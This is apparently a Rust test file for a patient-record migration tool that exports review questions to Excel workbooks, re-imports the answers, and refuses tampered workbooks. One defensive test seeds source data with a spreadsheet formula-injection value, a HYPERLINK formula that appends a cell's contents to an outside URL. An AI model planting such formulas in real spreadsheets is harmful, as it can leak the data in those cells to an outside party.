//! Deciding in a workbook: exported, answered, bent in every way that somebody could, imported.

use crate::transition::{Said, Transition, columns, example_run, files, fixtures};
use calamine::{Data, Reader as _, open_workbook_auto};
use serde_json::Value;
use std::collections::BTreeMap;
use std::fs;
use std::path::Path;

/// The sheets of a workbook, in order, with the texts of their cells.
pub type Sheets = Vec<(String, Vec<Vec<String>>)>;

/// The column of answers.
pub const ANSWER: usize = 1;
/// The column of notes.
pub const NOTE: usize = 2;

/// A transition whose first run leaves things to people, and the workbook that asks them.
pub fn asked(folder: &str, more: &[&str]) -> Transition {
    let transition = Transition::copy_of(&fixtures().join(folder));
    let said = transition.handover(&["run", "--quiet"]);
    assert_eq!(said.code, 0, "{}", said.err);
    let said = transition.handover(&[&["review", "export", "ask.xlsx"], more].concat());
    assert_eq!((said.code, said.err.as_str()), (0, ""), "{}", said.out);
    transition
}

/// The example with the package of its run, and the workbook that asks what it leaves to people.
pub fn example(more: &[&str]) -> Transition {
    let example = Transition::empty();
    for (name, bytes) in files(example_run()) {
        let path = example.path().join(name);
        fs::create_dir_all(path.parent().expect("a folder")).expect("made");
        fs::write(path, bytes).expect("written");
    }
    let said = example.handover(&[&["review", "export", "ask.xlsx", "--package", "packages/0001"], more].concat());
    assert_eq!((said.code, said.err.as_str()), (0, ""), "{}", said.out);
    example
}

pub fn read(path: &Path) -> Sheets {
    let mut book = open_workbook_auto(path).expect("a workbook");
    let sheets = book.sheet_names().into_iter().map(|name| {
        let range = book.worksheet_range(&name).expect("a sheet");
        let text = |cell: &Data| {
            assert!(matches!(cell, Data::String(_) | Data::Empty), "{name} holds something that is no text: {cell:?}");
            cell.to_string()
        };
        let lines = range.rows().map(|row| row.iter().map(text).collect()).collect();
        (name, lines)
    });
    sheets.collect()
}

/// Another program's save: the same texts, nothing of the looks.
pub fn write(path: &Path, sheets: &Sheets) {
    let mut book = rust_xlsxwriter::Workbook::new();
    for (name, lines) in sheets {
        let sheet = book.add_worksheet().set_name(name).expect("a name");
        for (row, cells) in (0..).zip(lines) {
            for (column, text) in (0..).zip(cells).filter(|(_, text)| !text.is_empty()) {
                sheet.write_string(row, column, text).expect("a cell");
            }
        }
    }
    book.save(path).expect("saved");
}

pub fn sheet<'s>(sheets: &'s mut Sheets, name: &str) -> &'s mut Vec<Vec<String>> {
    &mut sheets.iter_mut().find(|(of, _)| of == name).unwrap_or_else(|| panic!("no sheet {name}")).1
}

/// Answers the workbook as `answer` does, and imports it.
pub fn import(transition: &Transition, answer: impl FnOnce(&mut Sheets), more: &[&str]) -> Said {
    let mut sheets = read(&transition.path().join("ask.xlsx"));
    answer(&mut sheets);
    let path = transition.path().join("answered.xlsx");
    let _ = fs::remove_file(&path);
    write(&path, &sheets);
    transition.handover(&[&["review", "import", "answered.xlsx", "--who", "A. Records Officer"], more].concat())
}

pub fn journal(transition: &Transition) -> Vec<Value> {
    let text = fs::read_to_string(transition.path().join("decisions.jsonl")).unwrap_or_default();
    text.lines().map(|line| serde_json::from_str(line).expect("JSON")).collect()
}

fn pairs(transition: &Transition, package: &str, standing: &str) -> Vec<Vec<String>> {
    let table = fs::read(transition.path().join(format!("packages/{package}/data/tables/pairs.csv"))).expect("a table");
    let columns = columns(&table, &["left_source", "left_row", "right_source", "right_row", "standing"]);
    columns.into_iter().filter(|pair| pair[4] == standing).collect()
}

pub const TWINS: &str = "cases/twins/input";

#[test]
fn what_is_decided_in_a_workbook_is_decided() {
    let twins = asked(TWINS, &[]);
    let open = pairs(&twins, "0001", "review");
    assert!(!open.is_empty(), "the case leaves a pair to people");
    let said = import(
        &twins,
        |sheets| {
            for line in sheet(sheets, "Pairs").iter_mut().skip(1).filter(|line| !line[0].contains('.')) {
                line[ANSWER] = " Different".into();
                line[NOTE] = "two birth notifications".into();
            }
        },
        &["--json"],
    );
    assert_eq!(said.code, 0, "{}", said.all());
    let document = said.json();
    assert_eq!((&document["recorded"], &document["undecided"]), (&open.len().into(), &0.into()), "{document}");
    let events = journal(&twins);
    assert_eq!(events.len(), open.len());
    for (event, pair) in events.iter().zip(&open) {
        assert_eq!((&event["kind"], &event["answer"]), (&"pair".into(), &"different".into()));
        assert_eq!(event["who"], "A. Records Officer");
        assert_eq!(event["note"], "two birth notifications");
        assert_eq!(event["model"].as_str().map(str::len), Some(64));
        assert!(event["at"].as_str().is_some_and(|at| at.len() == 20 && at.ends_with('Z')), "{event}");
        assert_eq!(event["rows"][0]["source"], pair[0].as_str());
        assert_eq!(event["rows"][1]["row"].to_string(), pair[3]);
        assert!(event["rows"][0]["digest"].as_str().is_some_and(|digest| digest.len() == 64));
    }
    // The next run finds the rows as they were shown, and obeys.
    assert_eq!(twins.handover(&["run", "--quiet"]).code, 0);
    let table = fs::read(twins.path().join("packages/0002/data/tables/review_decisions.csv")).expect("a table");
    let effects = columns(&table, &["answer", "effect"]);
    assert_eq!(effects.len(), open.len());
    assert!(effects.iter().all(|effect| effect[0] == "different" && effect[1] != "row-gone"), "{effects:?}");
    let gates = fs::read(twins.path().join("packages/0002/data/tables/gates.csv")).expect("a table");
    assert!(columns(&gates, &["gate", "value"]).contains(&vec!["unreviewed_pairs".into(), "0".into()]));
    // Nobody is asked twice.
    assert_eq!(twins.handover(&["review", "export", "again.xlsx", "--queue", "pairs"]).code, 0);
    assert_eq!(sheet(&mut read(&twins.path().join("again.xlsx")), "Pairs").len(), 1);
}

#[test]
fn answers_are_taken_once() {
    let twins = asked(TWINS, &["--queue", "pairs"]);
    let answer = |word: &'static str| move |sheets: &mut Sheets| sheet(sheets, "Pairs")[1][ANSWER] = word.into();
    assert_eq!(import(&twins, answer("unsure"), &[]).code, 0);
    let said = import(&twins, answer("unsure"), &["--json"]).json();
    assert_eq!((&said["recorded"], &said["decided_already"]), (&0.into(), &1.into()), "{said}");
    assert_eq!(said["superseded"], 0);
    // A second thought is another answer, and it is said that one was in effect.
    let said = import(&twins, answer("same"), &["--json"]).json();
    assert_eq!((&said["recorded"], &said["superseded"]), (&1.into(), &1.into()), "{said}");
    let answers: Vec<Value> = journal(&twins).into_iter().map(|event| event["answer"].clone()).collect();
    assert_eq!(answers, ["unsure", "same"]);
    // Another export leaves the pair out; the first workbook is still good.
    assert_eq!(twins.handover(&["review", "export", "again.xlsx", "--queue", "pairs"]).code, 0);
    assert_eq!(sheet(&mut read(&twins.path().join("again.xlsx")), "Pairs").len(), 1);
    let said = import(&twins, answer("different"), &[]);
    assert!(said.code == 0 && said.out.contains("another answer was in effect"), "{}", said.all());
    let said = import(&twins, |sheets| (answer("same")(sheets), sheet(sheets, "Pairs")[0][4].push('x')).0, &["--json"]);
    assert_eq!((said.code, &said.json()["superseded"]), (1, &0.into()), "{}", said.all());
    // To take back the last is to have the one before in effect again, which is said.
    let said = twins.handover(&["review", "undo", "--event", "3", "--who", "x", "--json"]).json();
    assert_eq!(said["in_effect_again"], serde_json::json!([2]), "{said}");
    let said = twins.handover(&["review", "undo", "--event", "2", "--who", "x"]);
    assert!(said.out.contains("In effect again") && said.out.contains("event 1:"), "{}", said.all());
}

#[test]
fn the_same_package_gives_the_same_workbook() {
    let twins = asked(TWINS, &[]);
    let path = twins.path().join("ask.xlsx");
    let first = fs::read(&path).expect("a workbook");
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt as _;
        let mode = fs::metadata(&path).expect("there").permissions().mode();
        assert_eq!(mode & 0o777, 0o600, "it holds patient data");
    }
    let said = twins.handover(&["review", "export", "ask.xlsx"]);
    assert_eq!(said.code, 2);
    assert!(said.err.contains("ask.xlsx is there already"), "{}", said.err);
    assert_eq!(twins.handover(&["review", "export", "again.xlsx", "--package", "packages/0001"]).code, 0);
    assert!(fs::read(twins.path().join("again.xlsx")).expect("a workbook") == first);
    for place in ["packages/0001/ask.xlsx", "packages/0001/data/ask.xlsx"] {
        assert_eq!(twins.handover(&["review", "export", place]).code, 2, "a package is never changed");
    }
    assert_eq!(twins.handover(&["verify", "packages/0001"]).code, 0);
}

/// Everything that a person, or a program in between, could do to a workbook.
#[test]
fn whatever_was_bent_is_refused_by_name() {
    type Bend = fn(&mut Sheets);
    let bends: [(&str, &str, Bend); 15] = [
        ("changed", "a letter of a name", |sheets| {
            let place = sheet(sheets, "Pairs")[0].iter().position(|title| title == "Family name").expect("a column");
            sheet(sheets, "Pairs")[1][place].push('e');
        }),
        ("changed", "the row's number", |sheets| {
            let last = sheet(sheets, "Pairs")[1].len() - 3;
            sheet(sheets, "Pairs")[1][last] = "77".into();
        }),
        ("changed", "the digest", |sheets| {
            let last = sheet(sheets, "Pairs")[2].len() - 1;
            sheet(sheets, "Pairs")[2][last] = "0".repeat(64);
        }),
        ("changed", "the hidden mark", |sheets| {
            let last = sheet(sheets, "Pairs")[2].len() - 2;
            sheet(sheets, "Pairs")[2][last].push('x');
        }),
        ("changed", "two rows' digests were exchanged", |sheets| {
            let last = sheet(sheets, "Pairs")[1].len() - 1;
            let one = sheet(sheets, "Pairs")[1][last].clone();
            let other = std::mem::replace(&mut sheet(sheets, "Pairs")[2][last], one);
            sheet(sheets, "Pairs")[1][last] = other;
        }),
        ("changed", "a cell beside the table", |sheets| sheet(sheets, "Pairs")[1].push("look".into())),
        ("changed", "an answer where none is asked", |sheets| sheet(sheets, "Pairs")[2][ANSWER] = "same".into()),
        ("changed", "a title", |sheets| sheet(sheets, "Pairs")[0][4] = "x".into()),
        ("changed", "the first sheet", |sheets| {
            let page = sheet(sheets, "Read me");
            let place = page.iter().position(|line| line[0] == "Seal").expect("a line");
            page[place][1] = "0".repeat(64);
        }),
        ("foreign", "a line of nobody", |sheets| {
            let mut line = sheet(sheets, "Pairs")[1].clone();
            let mark = line.len() - 2;
            line[0] = "99".into();
            line[mark] = "0-1-0".into();
            sheet(sheets, "Pairs").push(line);
        }),
        ("missing", "a line", |sheets| drop(sheet(sheets, "Pairs").remove(2))),
        ("missing", "a sheet", |sheets| sheets.retain(|(name, _)| name != "Pairs")),
        ("duplicated", "a line", |sheets| {
            let line = sheet(sheets, "Pairs")[1].clone();
            sheet(sheets, "Pairs").push(line);
        }),
        ("not-an-answer", "another word", |sheets| sheet(sheets, "Pairs")[1][ANSWER] = "maybe".into()),
        ("other-package", "another package", |sheets| {
            let page = sheet(sheets, "Read me");
            let place = page.iter().position(|line| line[0] == "Package digest").expect("a line");
            page[place][1] = "0".repeat(64);
        }),
    ];
    let twins = asked(TWINS, &["--queue", "pairs"]);
    for (kind, what, bend) in bends {
        let answer = |sheets: &mut Sheets| {
            sheet(sheets, "Pairs")[1][ANSWER] = "same".into();
            bend(sheets);
        };
        let said = import(&twins, answer, &["--json"]);
        assert_eq!(said.code, 1, "{what}: {}", said.all());
        let document = said.json();
        let kinds: Vec<&str> =
            document["problems"].as_array().expect("problems").iter().filter_map(|one| one["kind"].as_str()).collect();
        assert!(kinds.contains(&kind) && document["recorded"] == 0, "{what} is {kind}: {document}");
        assert!(journal(&twins).is_empty(), "{what}: nothing is recorded");
    }
}

#[test]
fn the_good_answers_are_taken_when_asked_for() {
    let example = example(&["--queue", "pairs"]);
    let bend = |sheets: &mut Sheets| {
        let lines = sheet(sheets, "Pairs");
        for (line, word) in [(1, "same"), (3, "different"), (5, "perhaps"), (7, "unsure"), (9, "same")] {
            lines[line][ANSWER] = word.into();
        }
        lines[10][3] = "Row C".into();
        lines.push(lines[3].clone());
    };
    let said = import(&example, bend, &[]);
    assert_eq!(said.code, 1);
    assert!(said.err.contains("nothing was recorded") && journal(&example).is_empty(), "{}", said.err);
    for word in ["Pairs:6: the answer is none of", "Pairs:11: not as it was exported: What", "twice: line 4"] {
        assert!(said.out.contains(word), "{word}: {}", said.out);
    }
    let said = import(&example, bend, &["--accept-rest"]);
    assert_eq!(said.code, 1, "not everything was good");
    let answers: Vec<Value> = journal(&example).into_iter().map(|event| event["answer"].clone()).collect();
    assert_eq!(answers, ["same", "unsure"]);
}

#[test]
fn a_workbook_of_another_package_is_refused_and_an_older_one_is_found() {
    let twins = asked(TWINS, &[]);
    twins.edit("handover.toml", "name = ", "name = \"Again \" #");
    assert_eq!(twins.handover(&["run", "--quiet"]).code, 0);
    let answer = |sheets: &mut Sheets| sheet(sheets, "Pairs")[1][ANSWER] = "different".into();
    let said = import(&twins, answer, &["--package", "packages/0002"]);
    assert_eq!(said.code, 1);
    assert!(said.out.contains("[other-package]"), "{}", said.out);
    let said = import(&twins, answer, &["--json"]);
    assert_eq!((said.code, &said.json()["package"]), (0, &"packages/0001".into()));
    // No key, no package, no workbook, no name.
    fs::rename(twins.path().join("commitment.key"), twins.path().join("away.key")).expect("moved");
    assert_eq!(import(&twins, answer, &[]).code, 2);
    assert!(!twins.path().join("commitment.key").exists(), "a new key would be of no use");
    fs::rename(twins.path().join("away.key"), twins.path().join("commitment.key")).expect("moved");
    twins.write("none.xlsx", "no workbook");
    for (arguments, code) in [
        (&["import", "none.xlsx", "--who", "x"][..], 3),
        (&["import", "nowhere.xlsx", "--who", "x"], 3),
        (&["import", "answered.xlsx"], 2),
        (&["import", "answered.xlsx", "--who", " "], 2),
        (&["export", "new.xlsx", "--package", "nowhere"], 3),
        (&["export", "new.csv"], 2),
        (&["export", "new.xlsx", "--queue", "restricted", "--queue", "pairs"], 2),
    ] {
        let said = twins.handover(&[&["review"], arguments].concat());
        assert_eq!(said.code, code, "{arguments:?}: {}", said.err);
    }
    let empty = Transition::clinic();
    let said = empty.handover(&["review", "export", "new.xlsx"]);
    assert_eq!(said.code, 2);
    assert!(said.err.contains("run handover run first"), "{}", said.err);
}

#[test]
fn every_queue_can_be_answered() {
    let example = example(&[]);
    let said = import(
        &example,
        |sheets| {
            let members = sheet(sheets, "Clusters");
            assert!(members[1][3].starts_with("Patient P-") && members[2][3] == "Row 1");
            members[3][ANSWER] = "out".into();
            let unassigned = sheet(sheets, "Unassigned");
            let firsts: Vec<usize> = (1..unassigned.len()).filter(|line| !unassigned[*line][0].contains('.')).collect();
            assert_eq!(firsts.len(), 2);
            unassigned[firsts[0]][ANSWER] = "candidate 2".into();
            unassigned[firsts[1]][ANSWER] = "nobody".into();
        },
        &[],
    );
    assert_eq!(said.code, 0, "{}", said.all());
    let events: Vec<(String, String, usize)> = journal(&example)
        .iter()
        .map(|event| {
            let word = |name: &str| event[name].as_str().unwrap_or_default().to_owned();
            (word("kind"), word("answer"), event["rows"].as_array().map_or(0, Vec::len))
        })
        .collect();
    let kinds: Vec<(&str, &str)> = events.iter().map(|(kind, answer, _)| (&**kind, &**answer)).collect();
    let placed = [("row-placed", "there"), ("row-placed", "nobody")];
    assert_eq!(kinds, [&[("cluster-member", "out")][..], &placed].concat());
    assert_eq!(events[1..].iter().map(|(.., rows)| *rows).collect::<Vec<_>>(), [2, 1]);
    assert!(events[0].2 >= 3, "a patient of three rows or more");
}

#[test]
fn a_repair_is_accepted_or_refused() {
    let numbers = asked("cases/nhs-numbers-gone-wrong/input", &["--queue", "exceptions"]);
    let mut shown = read(&numbers.path().join("ask.xlsx"));
    let lines = sheet(&mut shown, "Exceptions");
    let used = lines[0].iter().position(|title| title == "Used as").expect("a column");
    assert_eq!((lines[1][3].as_str(), lines[1][used].len()), ("Is the repair right?", 10));
    assert!(lines[2..].iter().all(|line| line[used].is_empty() || line[3] == "Is the repair right?"));
    let said = import(&numbers, |sheets| sheet(sheets, "Exceptions")[1][ANSWER] = "refused".into(), &[]);
    assert_eq!(said.code, 0, "{}", said.all());
    let events = journal(&numbers);
    assert_eq!((&events[0]["kind"], &events[0]["about"]), (&"repair".into(), &"person.nhs_number".into()));
    assert!(events[0].get("model").is_none(), "no judgement of a model was shown");
    let reading = import(
        &numbers,
        |sheets| {
            let lines = sheet(sheets, "Exceptions");
            lines.last_mut().expect("a line")[ANSWER] = "accepted".into();
        },
        &[],
    );
    assert!(reading.out.contains("[changed]"), "what is for reading cannot be answered: {}", reading.out);
}

#[test]
fn whatever_is_used_as_it_is_can_be_settled() {
    let case = asked("cases/codes-and-postcodes/input", &["--queue", "exceptions"]);
    let accept = |sheets: &mut Sheets| {
        let lines = sheet(sheets, "Exceptions").iter_mut();
        let line = { lines }.find(|line| line.contains(&"postcode-shape".to_owned())).expect("a postcode of no shape");
        line[ANSWER] = "accepted".into();
    };
    let said = import(&case, accept, &[]);
    assert_eq!(said.code, 0, "{}", said.all());
    assert_eq!(case.handover(&["run", "--quiet"]).code, 0);
    let told = |package: &str| {
        let path = case.path().join(format!("packages/{package}/data/tables/exceptions.csv"));
        columns(&fs::read(path).expect("a table"), &["reason"])
            .iter()
            .filter(|line| line[0] == "postcode-shape")
            .count()
    };
    assert_eq!((told("0001"), told("0002")), (1, 0));
}

#[test]
fn hostile_cells_are_text() {
    let twins = Transition::copy_of(&fixtures().join(TWINS));
    let sources = files(&twins.path().join("sources"));
    assert_eq!(sources.len(), 2);
    for name in sources.keys() {
        twins.edit(&format!("sources/{name}"), "Quillfeather", "\"=HYPERLINK(\"\"http://x\"\"&A1)_x0041_<b>\"");
    }
    assert_eq!(twins.handover(&["run", "--quiet"]).code, 0);
    assert_eq!(twins.handover(&["review", "export", "ask.xlsx", "--queue", "pairs"]).code, 0);
    // `read` holds every cell to being a text.
    let mut sheets = read(&twins.path().join("ask.xlsx"));
    let lines = sheet(&mut sheets, "Pairs");
    let place = lines[0].iter().position(|title| title == "Family name").expect("a column");
    let family = lines[1][place].to_lowercase();
    assert_eq!(family, "=hyperlink(\"http://x\"&a1)_x0041_<b>");
    let xml = zip_entry(&twins.path().join("ask.xlsx"), "xl/worksheets/sheet2.xml");
    assert!(!xml.contains("<f>") && xml.contains("sheetProtection") && xml.contains("dataValidation"), "locked");
    assert_eq!(import(&twins, |sheets| sheet(sheets, "Pairs")[1][ANSWER] = "same".into(), &[]).code, 0);
}

#[test]
fn messages_of_an_import_hold_no_patient_data() {
    let example = example(&["--queue", "pairs"]);
    let mut words: BTreeMap<String, ()> = BTreeMap::new();
    let table = fs::read(example.path().join("packages/0001/data/tables/person_records.csv")).expect("a table");
    for line in columns(&table, &["nhs_number", "family_name", "postcode", "mobile"]) {
        words.extend(line.into_iter().filter(|word| word.len() >= 7).map(|word| (word, ())));
    }
    let said = import(
        &example,
        |sheets| {
            for line in sheet(sheets, "Pairs").iter_mut().skip(1) {
                line[ANSWER] = line[6].clone();
                line[4] = line[5].clone();
            }
        },
        &[],
    );
    assert_eq!(said.code, 1);
    assert!(words.len() > 100, "there is much that could be said");
    for word in words.keys() {
        assert!(!said.all().contains(word.as_str()), "says a word of {} letters of somebody", word.len());
    }
}

fn zip_entry(path: &Path, name: &str) -> String {
    let mut archive = zip::ZipArchive::new(fs::File::open(path).expect("a file")).expect("an archive");
    let mut text = String::new();
    let mut entry = archive.by_name(name).expect("an entry");
    std::io::Read::read_to_string(&mut entry, &mut text).expect("text");
    text
}

/// Gates by name: state and value.
fn gates(transition: &Transition, package: &str) -> BTreeMap<String, (String, String)> {
    let table = fs::read(transition.path().join(format!("packages/{package}/data/tables/gates.csv"))).expect("a table");
    let lines = columns(&table, &["gate", "state", "value"]).into_iter();
    lines.map(|line| (line[0].clone(), (line[1].clone(), line[2].clone()))).collect()
}

#[test]
fn what_is_answered_of_paper_differences_bookings_and_safety_closes_their_gates() {
    const QUEUES: [(&str, &str); 4] = [
        ("Paper", "paper_disagreements_open"),
        ("Differences", "declared_differences_unexplained"),
        ("Bookings", "unrecorded_appointments_unresolved"),
        ("Safety", "safety_items_open"),
    ];
    let queues = ["--queue", "paper", "--queue", "differences", "--queue", "bookings", "--queue", "safety"];
    let example = example(&queues);
    let before = gates(&example, "0001");
    let mut asked = 0;
    let said = import(
        &example,
        |sheets| {
            for (queue, gate) in QUEUES {
                let lines = &mut sheet(sheets, queue)[1..];
                assert_eq!(before[gate], ("red".into(), lines.len().to_string()), "{gate}");
                asked += lines.len();
                for line in lines {
                    line[ANSWER] = match (queue, line[5].as_str()) {
                        ("Paper", _) => "second",
                        ("Differences", "On the rebuilt list, and not declared") => "left-off-in-error",
                        ("Differences", "Another clock start" | "Another priority") => "typing-error",
                        ("Differences", _) => "declared-in-error",
                        ("Bookings", starts) if starts < "2017-10-10" => "honoured",
                        ("Bookings", _) => "rebooked",
                        _ => "closed",
                    }
                    .into();
                    line[NOTE] = if line[ANSWER] == "rebooked" { "20/11/2017 09:30, told" } else { "seen" }.into();
                }
            }
        },
        &["--json"],
    );
    assert_eq!(said.code, 0, "{}", said.all());
    assert_eq!(said.json()["recorded"], asked);
    assert!(journal(&example).iter().all(|event| event.get("model").is_none()), "no model judged any of it");
    assert_eq!(example.handover(&["run", "--quiet"]).code, 0);
    let after = gates(&example, "0002");
    for (_, gate) in QUEUES {
        assert_eq!(after[gate], ("green".into(), "0".into()), "{gate}");
    }
    let again = example.handover(&[&["review", "export", "again.xlsx", "--json"], &queues[..]].concat());
    let again = again.json();
    assert!(again["queues"].as_array().expect("queues").iter().all(|of| of["questions"] == 0), "{again}");
}

#[test]
fn another_reading_must_be_said() {
    let example = example(&["--queue", "paper"]);
    let other = |note: &'static str| {
        move |sheets: &mut Sheets| {
            let lines = sheet(sheets, "Paper").iter_mut();
            let line = { lines }.find(|line| line[5] == "person.date_of_birth").expect("a date to read");
            (line[ANSWER], line[NOTE]) = ("other".into(), note.into());
        }
    };
    for (note, told) in [
        (" ", "the note does not say what the folder says"),
        ("see the letter", "the note cannot be read as "),
        ("31/02/1961", "the note cannot be read as person.date_of_birth: "),
        ("9 July 1961", "a date as the mapping has it, or as 1961-07-09"),
    ] {
        let said = import(&example, other(note), &["--accept-rest"]);
        assert!(said.code == 1 && said.out.contains(told) && journal(&example).is_empty(), "{}", said.all());
        assert!(!said.all().contains("letter") && !said.all().contains("/1961"), "it is not quoted: {}", said.all());
    }
    assert_eq!(import(&example, other("9/7/1961"), &[]).code, 0);
    assert_eq!(import(&example, other("1961-07-10"), &[]).code, 0);
    let said = journal(&example).iter().map(|event| event["value"].clone()).collect::<Vec<Value>>();
    assert_eq!(said, ["9/7/1961", "1961-07-10"]);
}

#[test]
fn a_decision_follows_its_rows_into_a_later_extract() {
    let twins = asked(TWINS, &["--queue", "pairs"]);
    let said = import(&twins, |sheets| sheet(sheets, "Pairs")[1][ANSWER] = "same".into(), &[]);
    assert_eq!(said.code, 0, "{}", said.all());
    let run = || {
        let said = twins.handover(&["run", "--quiet"]);
        assert_eq!(said.code, 0, "{}", said.all());
        let mut newest = files(&twins.path().join("packages")).into_iter();
        let decided = newest.rfind(|(name, _)| name.ends_with("tables/review_decisions.csv")).expect("a package");
        columns(&decided.1, &["standing", "effect", "left_row", "right_row"]).remove(0)
    };
    let before = run();
    assert_eq!(before[..2], ["in-effect", "joined"]);
    // Every file has a newcomer above everybody else.
    for name in files(&twins.path().join("sources")).keys() {
        let text = fs::read_to_string(twins.path().join("sources").join(name)).expect("text");
        let (header, rows) = text.split_once('\n').expect("rows");
        let newcomer = header.split(',').map(|_| "").collect::<Vec<_>>().join(",");
        twins.write(&format!("sources/{name}"), &format!("{header}\n{newcomer}\n{rows}"));
    }
    let after = run();
    let one_further = |row: &String| (row.parse::<u32>().expect("a row") + 1).to_string();
    assert_eq!(after[..2], before[..2]);
    assert_eq!([&after[2], &after[3]], [&one_further(&before[2]), &one_further(&before[3])]);
}

/// Twins of whom a person decided, and the package of the run that obeyed.
fn decided() -> Transition {
    let twins = asked(TWINS, &["--queue", "pairs"]);
    assert_eq!(import(&twins, |sheets| sheet(sheets, "Pairs")[1][ANSWER] = "same".into(), &[]).code, 0);
    let said = twins.handover(&["run", "--quiet"]);
    assert!(said.code == 0 && !said.err.contains("decisions"), "{}", said.all());
    twins
}

#[test]
fn a_run_tells_of_decisions_that_an_earlier_one_obeyed_and_the_journal_has_lost() {
    let twins = decided();
    let journal = twins.path().join("decisions.jsonl");
    let kept = fs::read(&journal).expect("a journal");
    fs::remove_file(&journal).expect("removed");
    let said = twins.handover(&["run", "--quiet"]);
    let told = "packages/0002 obeyed are not in this journal any more";
    assert!(said.code == 0 && said.err.contains(told), "{}", said.all());
    // The newest package is now the one that obeyed nothing: the package whose ids live on is asked too.
    twins.edit("handover.toml", "[transition]\n", "[transition]\nprevious = \"packages/0002\"\n");
    assert!(twins.handover(&["run", "--quiet"]).err.contains(told));
    fs::write(&journal, kept).expect("restored");
    assert!(!twins.handover(&["run", "--quiet"]).err.contains(told));
}

#[test]
fn no_new_key_is_made_where_packages_or_decisions_were_made_with_another() {
    let twins = decided();
    let key = twins.path().join("commitment.key");
    fs::remove_file(&key).expect("removed");
    let refused = || {
        let said = twins.handover(&["run", "--quiet"]);
        assert!(said.code == 2 && said.err.contains("restore it from its backup"), "{}", said.all());
        assert!(!key.exists(), "nothing takes the lost one's place");
    };
    refused();
    fs::remove_dir_all(twins.path().join("packages")).expect("removed");
    refused();
    fs::remove_file(twins.path().join("decisions.jsonl")).expect("removed");
    assert_eq!(twins.handover(&["run", "--quiet"]).code, 0);
    assert!(key.exists(), "a new transition has a new key");
}
